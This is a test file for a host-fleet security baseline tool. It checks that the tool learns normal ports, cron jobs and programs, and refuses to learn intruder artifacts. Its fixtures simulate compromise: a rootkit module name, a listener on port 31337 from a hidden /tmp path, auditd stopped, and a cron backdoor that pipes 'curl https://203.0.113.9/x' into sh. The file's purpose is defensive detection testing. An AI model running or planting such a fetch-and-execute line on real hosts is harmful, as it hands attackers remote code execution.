import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { assess } from '../../src/assess.ts'
import { type Baseline, parseBaseline } from '../../src/baseline/baseline.ts'
import { writeBaseline } from '../../src/baseline/write.ts'
import { learnBaseline } from '../../src/learn/learn.ts'
import { type LearnOptions, learnFromFleet } from '../../src/learn/learn-from-fleet.ts'
import { fleetBuilder } from '../../src/normalize/fleet.ts'
import type { HostRecord, Row } from '../../src/snapshot/snapshot.ts'
import { facts, fleet, host, hostId, QUERIES, query } from '../support/fleets.ts'
import { indicatorsIn } from '../support/indicators.ts'

const question = (today = '2026-09-30') => ({ queries: QUERIES, indicators: [], today })

function learned(hosts: HostRecord[], more: Partial<LearnOptions> = {}, today?: string) {
  const options = {
    name: 'web',
    packs: { linux: 'sha256:00' },
    cleanHosts: [],
    previous: null,
    acceptRare: false,
    ...more
  }
  return learnFromFleet(options, question(today), async function* () {
    yield* hosts
  })
}

const judged = async (hosts: HostRecord[], baseline: Baseline) =>
  (
    await assess({ ...question(), baseline }, async function* () {
      yield* hosts
    })
  ).findings

describe('learning a baseline', () => {
  test('from the same fleet gives the same bytes, in any order, on any day', async () => {
    const hosts = fleet(24, (index, rows) => {
      if (index < 3) rows.programs?.push({ path: '/usr/bin/strace', username: 'root' })
    })
    const wanted = writeBaseline((await learned(hosts)).baseline)
    await fc.assert(
      fc.asyncProperty(
        fc.shuffledSubarray(hosts, { minLength: hosts.length }),
        fc.date({ noInvalidDate: true, min: new Date('2020-01-01'), max: new Date('2090-01-01') }),
        async (order, day) => {
          const reversed = order.map(one => ({
            ...one,
            queries: Object.fromEntries(
              Object.entries(one.queries).map(([name, result]) => [
                name,
                { ...result, rows: [...result.rows].reverse() }
              ])
            )
          }))
          expect(writeBaseline((await learned(reversed, {}, day.toISOString().slice(0, 10))).baseline)).toBe(
            wanted
          )
        }
      ),
      { numRuns: 20 }
    )
  })

  test('requires what every host has, and lists as optional what some have', async () => {
    const { baseline } = await learned(
      fleet(6, (index, rows) => {
        if (index % 2 === 0) rows.ports?.push({ protocol: '6', port: '9100', path: '/usr/bin/exporter' })
      })
    )
    expect(baseline.queries.ports).toEqual({
      columns: ['protocol', 'port', 'path'],
      required: expect.arrayContaining([
        ['6', '22', '/usr/sbin/sshd'],
        ['6', '443', '/usr/sbin/nginx']
      ]),
      optional: [['6', '9100', '/usr/bin/exporter']]
    })
    expect(baseline.roles).toEqual({})
  })

  test('counts only the hosts that answered a query', async () => {
    const hosts = fleet(4)
    const cut = {
      ...hosts[0]!,
      status: 'partial' as const,
      reason: 'cut',
      queries: { ...hosts[0]!.queries, ports: { status: 'truncated' as const, detail: null, rows: [] } }
    }
    const { baseline } = await learned([cut, ...hosts.slice(1)])
    expect(baseline.queries.ports?.required).toHaveLength(2)
  })

  test('writes a pattern where many hosts have variants of one row, and the hosts are clean under it', async () => {
    const hosts = fleet(30)
    const { baseline } = await learned(hosts)
    expect(baseline.queries.cron?.required).toEqual([
      ['/etc/crontab', 'run-parts --report /etc/cron.daily # <num>']
    ])
    expect(baseline.queries.cron?.optional).toEqual([])
    expect((await judged(hosts, baseline)).filter(({ severity }) => severity !== 'info')).toEqual([])
  })

  test('writes no pattern for random names on a few hosts, nor in an integrity table', async () => {
    const { baseline } = await learned(
      fleet(60, (index, rows) => {
        if (index < 6) rows.programs?.push({ path: `/tmp/.x${index}a7f3e2${index}bd`, username: 'root' })
        rows.modules?.push({ name: `probe_a1b2c3d${index}f` })
      }),
      { acceptRare: true }
    )
    expect(JSON.stringify(baseline.queries.programs)).not.toMatch(/<(?:hex|rand|num)>/)
    expect(baseline.queries.modules?.optional).toHaveLength(60)
  })

  test('replaces a host’s own facts, and hides secrets, by fixed rules', async () => {
    const own = (index: number) => ({
      ...facts,
      hostname: `web-${index}`,
      machineId: `${index}`.padStart(32, 'a')
    })
    const hosts = [1, 2, 3].map(index =>
      host(
        hostId(index),
        {
          cron: [{ path: '/etc/crontab', command: `report --from web-${index} --password hunter${index}x` }]
        },
        { facts: own(index) }
      )
    )
    const { baseline } = await learned(hosts)
    expect(baseline.queries.cron?.required).toEqual([
      ['/etc/crontab', 'report --from <host> --password [redacted: secret]']
    ])
    expect((await judged(hosts, baseline)).filter(({ kind }) => kind === 'deviation')).toEqual([])
  })
})

describe('what looks like an intruder', () => {
  const compromised = fleet(30, (index, rows) => {
    if (index === 7) {
      rows.modules?.push({ name: 'diamorphine' })
      rows.ports?.push({ protocol: '6', port: '31337', path: '/tmp/.x' })
      rows.programs?.push({ path: '/tmp/.x', username: 'root' })
      rows.guards = [{ name: 'auditd', state: 'stopped' }]
    }
  })

  test('is not learned, and is listed with the reason', async () => {
    const { baseline, refused } = await learned(compromised)
    expect(JSON.stringify(baseline)).not.toMatch(/diamorphine|31337|\.x/)
    const named = refused.find(({ query }) => query === 'modules')!
    expect(named).toEqual({
      query: 'modules',
      row: { name: 'diamorphine' },
      hosts: [hostId(7)],
      reason: expect.stringMatching(/part of a (high|critical) finding|only 1 of 30/)
    })
  })

  test('excludes every row that only such hosts have, however common similar rows are elsewhere', async () => {
    const hosts = fleet(30, (index, rows) => {
      if (index === 7) {
        rows.modules?.push({ name: 'diamorphine' })
        rows.ports?.push({ protocol: '6', port: '31337', path: '/tmp/.x' })
        rows.programs?.push({ path: '/tmp/.x', username: 'root' })
        rows.guards = [{ name: 'auditd', state: 'stopped' }]
      }
      if (index === 7 || index === 12) rows.sessions?.push({ user: 'bob' })
      rows.cron?.push({ path: `/etc/cron.d/own-${'abcdefghijklmnopqrstuvwxyzABCD'[index]}`, command: 'true' })
    })
    const { baseline, refused } = await learned(hosts)
    expect(baseline.queries.cron?.optional).toHaveLength(29)
    expect(baseline.queries.cron?.required).toHaveLength(1)
    expect(baseline.queries.sessions?.optional).toContainEqual(['bob'])
    expect(refused.find(({ query }) => query === 'cron')).toEqual({
      query: 'cron',
      row: { path: '/etc/cron.d/own-h', command: 'true' },
      hosts: [hostId(7)],
      reason: expect.stringMatching(/^only hosts with a high finding \([0-9a-f]{16}\) have it$/)
    })
  })

  test('does not make the row optional that it replaced', async () => {
    const { baseline } = await learned(compromised)
    expect(baseline.queries.guards?.required).toEqual([['auditd', 'active']])
  })

  test('is learned if the run asks for it', async () => {
    const { baseline, refused } = await learned(compromised, { acceptRare: true })
    expect(baseline.queries.modules?.optional).toEqual([['diamorphine']])
    expect(refused).toEqual([])
  })

  test('according to an indicator is not learned either, however many hosts have it', async () => {
    const everywhere = fleet(10, (_, rows) =>
      rows.programs?.push({ path: '/opt/evil/agent', username: 'root' })
    )
    const { baseline, refused } = await learnFromFleet(
      { name: 'web', packs: {}, cleanHosts: [], previous: null, acceptRare: false },
      { ...question(), indicators: await indicatorsIn('/opt/evil/agent') },
      async function* () {
        yield* everywhere
      }
    )
    expect(JSON.stringify(baseline)).not.toContain('evil')
    expect(refused).toEqual([
      expect.objectContaining({ query: 'programs', reason: 'it matches the indicator /opt/evil/agent' })
    ])
  })

  test('stays if the baseline already had it', async () => {
    const previous = (await learned(compromised, { acceptRare: true })).baseline
    const { baseline, refused } = await learned(compromised, { previous })
    expect(baseline.queries.modules?.optional).toEqual([['diamorphine']])
    expect(refused).toEqual([])
  })
})

describe('learning again', () => {
  const accept = [{ query: 'ports', match: { port: '99' }, reason: 'r', owner: 'o', expires: '2026-12-31' }]

  test('keeps acceptances, notes and rows of unanswered queries, and reports what was added and removed', async () => {
    const first = (await learned(fleet(6))).baseline
    const previous: Baseline = {
      ...first,
      accept,
      queries: {
        ...first.queries,
        ports: { ...first.queries.ports!, note: 'ask @acme/net' },
        gone: { columns: ['name'], required: [['x']], optional: [] }
      }
    }
    const hosts = fleet(6, (_, rows) => {
      delete rows.cron
      rows.ports = [
        { protocol: '6', port: '22', path: '/usr/sbin/sshd' },
        { protocol: '6', port: '80', path: '/usr/sbin/nginx' }
      ]
    })
    const { baseline, changes } = await learned(hosts, { previous })
    expect(baseline.accept).toEqual(accept)
    expect(baseline.queries.ports?.note).toBe('ask @acme/net')
    expect(baseline.queries.cron).toEqual(first.queries.cron)
    expect(baseline.queries.gone).toEqual(previous.queries.gone)
    expect(changes.rows.map(({ change, row, from, to }) => [change, row.port, from, to])).toEqual([
      ['removed', '443', 'required', null],
      ['added', '80', null, 'required']
    ])
  })

  test('from the same hosts changes nothing, learned and handwritten patterns included', async () => {
    const hosts = fleet(30)
    const { baseline } = await learned(hosts)
    const again = await learned(hosts, { previous: parseBaseline('b', writeBaseline(baseline)) })
    expect(again.changes.rows).toEqual([])
    expect(writeBaseline(again.baseline)).toBe(writeBaseline(baseline))
    const own = {
      ...baseline,
      queries: {
        ...baseline.queries,
        cron: {
          columns: ['path', 'command'],
          required: [['/etc/crontab', 'run-parts --report <rand> # <num>']],
          optional: []
        }
      }
    }
    const kept = await learned(
      fleet(30, (index, rows) => {
        rows.cron = [{ path: '/etc/crontab', command: `run-parts --report daily # ${index}` }]
      }),
      { previous: own }
    )
    expect(kept.baseline.queries.cron).toEqual(own.queries.cron)
  })

  test.each([
    [
      'silent',
      [...fleet(3), host('i-dead', {}, { status: 'silent', reason: 'offline', facts: null })],
      'i-dead (silent)'
    ],
    ['not among the collected hosts', fleet(3), 'i-dead (not among the collected hosts)']
  ])('fails if a named clean host is %s', async (_, hosts, message) => {
    await expect(learned(hosts, { cleanHosts: [hostId(0), 'i-dead'] })).rejects.toThrow(message)
  })

  test('fails if no host answered', async () => {
    await expect(learned([])).rejects.toThrow('No host answered')
  })

  test('looks only at the named clean hosts', async () => {
    const hosts = fleet(10, (index, rows) => {
      if (index > 2) rows.programs?.push({ path: '/opt/implant', username: 'root' })
    })
    const { baseline } = await learned(hosts, { cleanHosts: [0, 1, 2].map(hostId) })
    expect(JSON.stringify(baseline)).not.toContain('implant')
    const guilty = new Set((await judged(hosts, baseline)).flatMap(({ hosts }) => hosts))
    expect([...guilty].sort()).toEqual([3, 4, 5, 6, 7, 8, 9].map(hostId))
  })
})

test('a refresh does not learn what a few hosts alone have, also if they are so different that they look like a role', async () => {
  const { baseline: previous } = await learned(fleet(40))
  const hosts = fleet(40, (index, rows) => {
    if (index >= 3) return
    rows.cron?.push({ path: '/etc/cron.d/x', command: 'run' })
    rows.ports = [{ protocol: '6', port: '4444', path: '/opt/.x/sh' }]
    rows.programs = Array.from({ length: 30 }, (_, at) => ({
      path: `/opt/.x/tool-${'abcdefghijklmnopqrstuvwxyzABCD'[at]}`,
      username: 'root'
    }))
  })
  const { baseline, refused } = await learned(hosts, { previous })
  expect(JSON.stringify(baseline)).not.toMatch(/\.x\/|cron\.d\/x/)
  expect(refused).toContainEqual(
    expect.objectContaining({
      row: { path: '/etc/cron.d/x', command: 'run' },
      reason: 'only 3 of 40 clean hosts have it, and the baseline did not know it'
    })
  )
})

test('a query of a foreign pack is learned with the columns of its rows', () => {
  const builder = fleetBuilder([query('own', null), query('empty', null)])
  for (const id of ['a', 'b']) builder.add(host(id, { own: [{ name: 'x', kind: 'y' }], empty: [] }))
  const groups = [
    {
      label: 'all',
      hosts: [0, 1],
      reference: [0, 1],
      suspicious: new Map(),
      onlyOnSuspects: new Map(),
      exempt: new Map()
    }
  ]
  const { baseline } = learnBaseline({
    name: 'web',
    packs: {},
    fleet: builder.finish(),
    groups,
    previous: null,
    acceptRare: false
  })
  expect(baseline.queries).toEqual({
    own: { columns: ['kind', 'name'], required: [['y', 'x']], optional: [] }
  })
})

describe('learning what is new', () => {
  const backdoor = ['/etc/cron.d/x', 'curl https://203.0.113.9/x | sh']
  const added = (many: number) =>
    fleet(40, (index, rows) => {
      if (index < many) rows.cron?.push({ path: backdoor[0]!, command: backdoor[1]! })
      if (index === 1) rows.sessions?.push({ user: 'bob' })
    })

  test('does not learn in silence a row of an ordinary table that one or few hosts have', async () => {
    const { baseline: previous } = await learned(fleet(40))
    for (const many of [1, 6]) {
      const { baseline, refused } = await learned(added(many), { previous })
      expect(JSON.stringify(baseline)).not.toContain('203.0.113.9')
      expect(refused).toContainEqual(
        expect.objectContaining({ query: 'cron', row: { path: backdoor[0], command: backdoor[1] } })
      )
      expect(JSON.stringify(baseline.queries.sessions)).toContain('bob')
    }
  })

  test('learns it if it is asked to, if it is on many hosts, and if the baseline knows it already', async () => {
    const { baseline: previous } = await learned(fleet(40))
    const asked = await learned(added(1), { previous, acceptRare: true })
    expect(asked.baseline.queries.cron?.optional).toContainEqual(backdoor)
    const common = await learned(added(25), { previous })
    expect(common.baseline.queries.cron?.optional).toContainEqual(backdoor)
    const known = await learned(added(1), { previous: asked.baseline })
    expect(known.baseline.queries.cron?.optional).toContainEqual(backdoor)
  })
})

test('queries, roles and columns may be called constructor or toString', async () => {
  const queries = ['constructor', 'toString', 'valueOf'].map(name => query(name, ['constructor', 'name']))
  const hosts = fleet(5).map(one => ({
    ...one,
    queries: Object.fromEntries(
      queries.map(({ name }) => [
        name,
        {
          status: 'ok' as const,
          detail: null,
          rows: [Object.assign(Object.create(null), { name: 'x' }) as Row]
        }
      ])
    )
  }))
  const options = { name: 'web', packs: { constructor: 'x' }, cleanHosts: [], acceptRare: false }
  const learn = (previous: Baseline | null) =>
    learnFromFleet({ ...options, previous }, { ...question(), queries }, async function* () {
      yield* hosts
    })
  const older = await learned(fleet(5))
  const { baseline, changes } = await learn({ ...older.baseline, roles: { toString: { queries: {} } } })
  expect(changes.queries.map(({ query }) => query)).toEqual(
    expect.arrayContaining(['constructor', 'toString'])
  )
  expect(JSON.stringify(baseline)).toContain(
    '"constructor":{"columns":["constructor","name"],"required":[["","x"]]'
  )
})
